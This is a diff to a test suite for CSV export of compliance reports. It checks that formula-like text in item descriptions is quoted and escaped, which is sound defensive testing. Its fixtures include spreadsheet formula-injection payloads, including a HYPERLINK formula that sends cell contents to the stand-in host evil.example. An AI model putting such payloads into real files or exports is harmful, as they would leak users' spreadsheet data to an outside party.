@@ -14,6 +14,8 @@ import { createTestApp, engines, TEST_ORIGIN, type TestApp } from './support/tes
 
 const TIME_ZONE = 'America/New_York';
 const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
+// Inert in a spreadsheet that splits it on ";" (a European locale) or ",": each part would be a cell.
+const HOSTILE_AFTER_SEPARATORS = 'Gold ring;=HYPERLINK("http://evil.example/?leak="&A1), +1+1;@SUM(1)';
 const DAY = 86_400_000;
 
 describe.each(engines)('compliance reports on %s', (engine) => {
@@ -75,6 +77,7 @@ describe.each(engines)('compliance reports on %s', (engine) => {
     const admin = await signUpAdmin(t.app, t.db);
     const todays = await purchase(admin, HOSTILE);
     const yesterdays = await purchase(admin, 'Silver bracelet');
+    const split = await purchase(admin, HOSTILE_AFTER_SEPARATORS);
     await t.db
       .update(transactions)
       .set({ createdAt: sql`${transactions.createdAt} - interval '1 day'` })
@@ -91,6 +94,12 @@ describe.each(engines)('compliance reports on %s', (engine) => {
     expect(ids).toContain(todays.payout.id);
     expect(ids).not.toContain(yesterdays.payout.id);
     const row = records.find((r) => r['Transaction ID'] === todays.payout.id)!;
+    // Every text cell is quoted: each line is quoted cells between commas (the columns are all text).
+    const lines = res.body.split('\r\n').filter(Boolean);
+    for (const line of lines) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/);
+    expect(records.find((r) => r['Transaction ID'] === split.payout.id)!['Item description']).toBe(
+      `Gold ring;'=HYPERLINK("http://evil.example/?leak="&A1), '+1+1;'@SUM(1)`,
+    );
     expect(row).toEqual({
       'Transaction ID': todays.payout.id,
       'Purchase date and time': expect.stringMatching(new RegExp(`^${today()} \\d{2}:\\d{2}:\\d{2} -0[45]:00$`)),
